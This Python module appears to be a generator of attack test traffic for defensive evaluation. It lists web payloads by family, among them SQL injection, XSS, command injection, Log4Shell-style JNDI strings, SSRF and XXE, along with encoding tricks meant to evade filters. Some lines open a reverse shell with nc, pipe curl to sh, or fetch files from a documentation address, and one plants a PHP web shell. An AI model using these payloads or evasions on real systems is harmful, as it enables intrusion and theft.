"""Attacks by families, and the ways in which tools dress them. Addresses are those of documentation (RFC 5737)."""

import base64
from urllib.parse import quote

from places import PLACES

FAMILIES = {
    "sqli": ["1' UNION SELECT password FROM users-- -", "' OR '1'='1", "1; DROP TABLE users--", "1' AND SLEEP(5)-- -", "admin'--",
             "1 AND 1=CONVERT(int,(SELECT @@version))", "' UNION ALL SELECT NULL,NULL,NULL#",
             "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1) OR (SELECT COUNT(*) FROM information_schema.tables)>0--",
             "x'; EXEC xp_cmdshell('whoami')--", "1;WAITFOR DELAY '0:0:5'--", "' OR pg_sleep(5)::text='"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(document.cookie)",
            "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "'-alert(1)-'", "<a href=\"java\tscript:alert(1)\">x</a>",
            "<details open ontoggle=alert(1)>", "<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\">",
            "\" autofocus onfocus=alert(1) x=\""],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
                  "file:///etc/passwd", "/proc/self/environ", "..%2f..%2f..%2fetc%2fpasswd", "/var/www/../../etc/passwd"],
    "command": ["; cat /etc/passwd", "| nc 192.0.2.9 4444 -e /bin/sh", "$(curl http://192.0.2.9/x|sh)", "`id`",
                "&& wget http://192.0.2.9/a -O /tmp/a", "() { :;}; /bin/bash -c id", "; ping -c 10 192.0.2.9",
                "a;${IFS}cat${IFS}/etc/passwd", "|| powershell -enc SQBFAFgA", "\nuname -a", "{cat,/etc/passwd}"],
    "php": ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "phpinfo()", "eval(base64_decode($_POST['x']));", "phar://uploads/a.jpg"],
    "java": ["${jndi:ldap://192.0.2.9/a}", "${${lower:j}ndi:rmi://192.0.2.9/a}", "${jndi:${lower:l}dap://192.0.2.9/a}",
             "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
             "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline",
             "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk="],
    "template": ["{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= system('id') %>",
                 "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{constructor.constructor('alert(1)')()}}",
                 "{% import os %}{{os.popen('id').read()}}"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "gopher://127.0.0.1:6379/_SET",
             "http://192.0.2.9/shell.txt?", "http://[::1]/admin", "http://0x7f000001/", "http://2130706433/",
             "http://metadata.google.internal/computeMetadata/v1/", "dict://localhost:11211/stat", "http://localhost/server-status"],
    "node": ["require('child_process').exec('id')", "__proto__[admin]=1", "this.constructor.constructor('return process')()",
             "process.mainModule.require('fs')", "_$$ND_FUNC$$_function(){}()"],
    "nosql": ["{\"$ne\":null}", "{\"$gt\":\"\"}", "' || this.password.match(/.*/)//", "a'; sleep(5000); var b='",
              "{\"$where\":\"sleep(1000)\"}", "db.users.drop()"],
    "split": ["a\r\nSet-Cookie: x=1", "a\r\n\r\n<html>", "a%0d%0aLocation: http://192.0.2.9", "a\r\nHTTP/1.1 200 OK"],
    "mail": ["a@example.com\r\nBcc: b@example.net", "a@example.com\nCc: b@example.net\nSubject: x",
             "x\r\nContent-Type: multipart/mixed; boundary=x", "a@example.com%0aBcc:b@example.net"],
    "ldap": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(password=*)", "admin)(!(&(1=0"],
    "xxe": ["<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://192.0.2.9/a.dtd\">%p;]>"],
}


def mixed_case(text):
    return "".join(c.upper() if at % 2 else c.lower() for at, c in enumerate(text))


TAMPERS = {
    "plain": lambda t: t,
    "upper": lambda t: t.upper(),
    "mixed": mixed_case,
    "comment": lambda t: t.replace(" ", "/**/"),
    "tab": lambda t: t.replace(" ", "\t"),
    "twice": quote,
    "unicode": lambda t: "".join(f"%u{ord(c):04x}" for c in t),
    "entity": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "base64": lambda t: base64.b64encode(t.encode()).decode(),
}

# Places in which a way of dressing makes sense: who decodes Base64 in a path?
ONLY_IN = {"base64": ("query", "form", "json", "cookie", "header"), "entity": ("query", "form"), "unicode": ("query", "form"),
           "comment": ("query", "form", "json"), "tab": ("query", "form", "multipart"), "mixed": ("query", "form", "cookie"),
           "upper": ("query", "form", "json", "xml"), "twice": ("query", "path", "form")}


def rows(number):
    """(name, bytes): every attack in every place, plain and dressed."""
    for family, texts in FAMILIES.items():
        for at, text in enumerate(texts):
            for tamper, dress in TAMPERS.items():
                for place in ONLY_IN.get(tamper, PLACES):
                    if tamper == "plain" or dress(text) != text:
                        yield f"{family}-{at} {place} {tamper}", PLACES[place](dress(text), next(number))
